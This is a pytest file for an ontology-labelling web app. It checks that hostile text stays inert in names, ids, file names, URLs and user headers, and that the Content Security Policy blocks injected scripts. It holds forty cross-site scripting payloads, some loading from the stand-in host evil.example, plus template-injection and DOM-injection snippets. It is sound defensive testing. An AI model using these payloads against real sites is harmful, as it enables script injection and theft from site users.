"""Texts, ids, names, synonyms, file names, batches and addresses that want to be scripts.

The fixture `browse` fails a test when a dialog opens, a script fails, or a request leaves.
"""

from __future__ import annotations

from typing import Any

import pytest

from ontodex.ontology.graph import Concept, build_ontology
from ontodex.runs.evaluate import evaluate
from ontodex.runs.recipe import train
from ontodex.serve.prediction.run_metadata import MAX_LANGUAGE
from ontodex.types import Corpus, Doc

pytestmark = pytest.mark.slow

# Forty ways to get a script run out of a text; each would call alert, or load from elsewhere.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>alert(2)</script>",
    "<ScRiPt>alert(3)</sCrIpT>",
    "<scr<script>ipt>alert(4)</scr</script>ipt>",
    "<img src=x onerror=alert(5)>",
    "<img src=//evil.example/pixel.gif>",
    "<img src=`x` onerror=alert(6)>",
    "<img/src/onerror=alert(7)>",
    '"><img src=x onerror=alert(8)>',
    "'><img src=x onerror=alert(9)>",
    '" autofocus onfocus="alert(10)',
    "' onmouseover='alert(11)",
    "<svg onload=alert(12)>",
    "<svg><script>alert(13)</script></svg>",
    '<svg><a xlink:href="javascript:alert(14)"><text y=9>x</text></a></svg>',
    "<svg><animate onbegin=alert(15) attributeName=x dur=1s>",
    "<body onload=alert(16)>",
    "<iframe src=javascript:alert(17)></iframe>",
    '<iframe srcdoc="<script>alert(18)</script>"></iframe>',
    "<iframe src=//evil.example></iframe>",
    "<object data=javascript:alert(19)></object>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:alert(20)>press</a>",
    "javascript:alert(21)",
    "data:text/html,<script>alert(22)</script>",
    "<details open ontoggle=alert(23)>",
    "<video><source onerror=alert(24)></video>",
    "<audio src=x onerror=alert(25)>",
    "<input autofocus onfocus=alert(26)>",
    "<select autofocus onfocus=alert(27)>",
    "<textarea></textarea><script>alert(28)</script>",
    "</textarea><script>alert(29)</script>",
    "</title><script>alert(30)</script>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(31)>",
    "{{constructor.constructor('alert(32)')()}}${alert(33)}",
]
NOT_OURS = (
    "script, img, svg, iframe, object, embed, video, audio, style, link, base, meta, math, "
    "[onclick], [onerror], [onload], [onfocus], [onmouseover], [href^=javascript], [href*=evil]"
)


@pytest.fixture(scope="module")
def hostile(serve: Any, tmp_path_factory: pytest.TempPathFactory) -> str:
    """A service whose every id, name, synonym, definition and notation is an attack."""
    folder = tmp_path_factory.mktemp("hostile")
    concepts = [
        Concept(
            payload,
            names={"en": payload},
            synonyms={"en": (f"also {payload}",)},
            parents=() if number == 0 else (PAYLOADS[number // 3],),
            definition=f"what {payload} means",
            notation=payload,
        )
        for number, payload in enumerate(PAYLOADS)
    ]
    corpus = Corpus.of(
        Doc(f"d{copy}-{number}", {"title": payload, "text": f"word{number}"}, labels=(payload,))
        for copy in range(3)
        for number, payload in enumerate(PAYLOADS)
    )
    trained = train(
        config={"model": {"name": "linear"}},
        out=folder / "attack",
        train=corpus,
        dev=corpus,
        ontology=build_ontology(concepts),
    )
    evaluate(trained, corpus, report=True)
    return str(serve([folder / "attack"]))


def assert_nothing_came_in(curator: Any) -> None:
    """No element or attribute in the body that the page's own code does not make."""
    assert curator.page.evaluate(f"document.body.querySelector('{NOT_OURS}')") is None


def test_there_are_forty_different_payloads():
    assert len(set(PAYLOADS)) == 40


def test_hostile_texts_and_suggestions_stay_text(browse, hostile):
    eve = browse(hostile)
    for number, payload in enumerate(PAYLOADS):
        eve.paste(text=f"word{number} {payload}\n\n{payload}", title=payload)
        if number == 0:
            eve.page.locator("#threshold").fill("0")
        assert eve.page.inner_text("#text h2") == payload
        eve.sees("#legend bdi")
        eve.press("a")
        eve.wait_for_terms(1)
        assert eve.terms[0] in PAYLOADS
        assert_nothing_came_in(eve)
        eve.press("o")
    eve.page.click("#show-queue")
    eve.sees("#queue-list a >> nth=39")
    assert_nothing_came_in(eve)


def test_every_hostile_concept_can_be_found_looked_at_and_added(browse, hostile):
    eve = browse(hostile)
    eve.paste()
    eve.press("i")
    for number, payload in enumerate(PAYLOADS):
        eve.page.fill("#search", payload)
        eve.sees("#hits [aria-selected=true]")
        eve.press("Enter")
        eve.wait_for_terms(number + 1)
        eve.wait_for(
            "() => /what .* means/s.test(document.querySelector('#concept dl').textContent)"
        )
        assert_nothing_came_in(eve)
    assert sorted(eve.terms) == sorted(PAYLOADS)


def test_hostile_file_names_stay_text(browse, hostile):
    eve = browse(hostile, expected="422")
    names = [payload.replace("/", "_") for payload in PAYLOADS]
    upload = {"mimeType": "text/plain", "buffer": eve.text.encode()}
    eve.page.set_input_files("#files", [{"name": f"{name}.txt", **upload} for name in names])
    eve.sees("#right:not([aria-busy]) [aria-selected=true]")
    assert "alert(1)" in eve.page.inner_text("#about")
    eve.press("q")
    eve.sees("#queue-list a >> nth=39")
    assert_nothing_came_in(eve)
    eve.press("Escape")
    eve.page.set_input_files("#files", [{"name": f"{name}.exe", **upload} for name in names[5:8]])
    eve.sees("#alert:not([hidden])")
    assert "<img src=x onerror=alert(5)>.exe" in eve.page.inner_text("#alert")
    assert_nothing_came_in(eve)


def test_hostile_ids_and_batches_stay_text(browse, hostile):
    eve = browse(hostile)
    for payload in PAYLOADS:
        eve.fetch("/documents", {"documents": [{"id": payload, "text": "x"}], "batch": payload})
    eve.page.click("#show-queue")
    eve.wait_for("() => document.querySelectorAll('#queue-batch option').length > 40")
    eve.page.select_option("#queue-batch", PAYLOADS[5])
    eve.wait_for("() => document.querySelectorAll('#queue-list a').length === 1")
    assert_nothing_came_in(eve)
    eve.press("Escape")
    eve.page.click("#show-export")
    eve.page.select_option("#export-batch", PAYLOADS[5])
    with eve.page.expect_download():
        eve.page.click("#export-link")
    assert_nothing_came_in(eve)


def test_hostile_addresses_do_nothing(browse, hostile):
    for payload in PAYLOADS[::5]:
        eve = browse(f"{hostile}/#/document={payload}&view={payload}&run={payload}")
        eve.sees("#entry:not([hidden])")
        assert_nothing_came_in(eve)


def test_a_hostile_report_is_shown_but_cannot_act(browse, hostile):
    eve = browse(f"{hostile}/#/view=evaluation")
    frame = eve.page.frame_locator("#evaluation iframe")
    frame.locator("h1").wait_for()
    assert "alert(" in frame.locator("body").inner_text()


@pytest.fixture(scope="module")
def foreign(serve: Any, tmp_path_factory: pytest.TempPathFactory) -> str:
    """A service whose languages are attacks, behind a proxy that names users."""
    folder = tmp_path_factory.mktemp("foreign")
    names = {"en": "Fish", **{payload: f"Fish {i}" for i, payload in enumerate(PAYLOADS)}}
    corpus = Corpus.of(
        Doc(f"{text}{i}", {"text": text}, labels=(label,))
        for i in range(8)
        for text, label in {"trout": "javascript:x", "old oaks": "javascript:alert(1)"}.items()
    )
    concepts = [Concept("javascript:x", names=names), Concept("javascript:alert(1)", {"en": "Oak"})]
    train(
        config={"model": {"name": "linear"}},
        out=folder / "attack",
        train=corpus,
        dev=corpus,
        ontology=build_ontology(concepts),
    )
    (folder / "secret").write_text("0123456789abcdef\n")
    options = ("--user-header", "X-User", "--proxy", "127.0.0.1")
    return str(serve([folder / "attack"], *options, "--proxy-secret", str(folder / "secret")))


def name_user(curator: Any, name: str) -> None:
    headers = {"X-User": name, "X-Proxy-Secret": "0123456789abcdef"}
    curator.page.set_extra_http_headers(headers)


def test_hostile_languages_stay_text(browse, foreign):
    eve = browse(foreign, expected="401")
    name_user(eve, "eve")
    eve.page.reload()
    eve.sees("#entry:not([hidden])")
    for payload in [payload for payload in PAYLOADS if len(payload) <= MAX_LANGUAGE]:
        eve.page.locator("#language").select_option(payload, force=True)
        eve.wait_for("(tag) => document.querySelector('#language').value === tag", payload)
    eve.paste(text="trout", title="trout")
    assert eve.page.inner_text("#concept h3 bdi").startswith("Fish")
    assert_nothing_came_in(eve)


def test_hostile_names_of_people_stay_text(browse, foreign):
    eve = browse(foreign, expected="401")
    name_user(eve, "eve")
    eve.page.reload()
    eve.sees("#entry:not([hidden])")
    added = eve.fetch("/documents", {"documents": [{"text": "trout"}]})
    (number,) = added["numbers"]
    decision = {"document": number, "label": "javascript:x", "verdict": "reject"}
    for payload in PAYLOADS:
        name_user(eve, payload)
        answer = eve.fetch("/decisions", {"decisions": [decision]})
        assert answer["decisions"][0]["user"] == payload
    name_user(eve, "eve")
    eve.page.goto(f"{foreign}/#/document={number}")
    eve.page.reload()
    eve.wait_for("() => document.querySelectorAll('#people thead th').length > 40")
    assert PAYLOADS[5] in eve.page.inner_text("#people thead")
    assert_nothing_came_in(eve)


@pytest.mark.parametrize(
    "inject",
    [
        "const s = document.createElement('script'); s.textContent = 'window.ran = 1';"
        "document.body.append(s)",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')",
        "document.body.setAttribute('onclick', 'window.ran = 1'); document.body.click()",
        "const a = document.createElement('a'); a.href = 'javascript:window.ran = 1';"
        "document.body.append(a); a.click()",
        "const s = document.createElement('script'); s.src = 'data:text/javascript,window.ran = 1';"
        "document.body.append(s)",
        "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.ran = 1</script>';"
        "document.body.append(f)",
        "const f = document.createElement('iframe'); f.src = 'javascript:parent.ran = 1';"
        "document.body.append(f)",
    ],
)
def test_the_content_policy_stops_what_would_come_in_all_the_same(browse, hostile, inject):
    """As if the page had put a text into its HTML."""
    eve = browse(hostile, expected="Content Security Policy|404")
    with eve.page.expect_console_message(lambda one: "Content Security Policy" in one.text):
        eve.page.evaluate(f"() => {{ {inject} }}")
    assert eve.page.evaluate("window.ran") is None
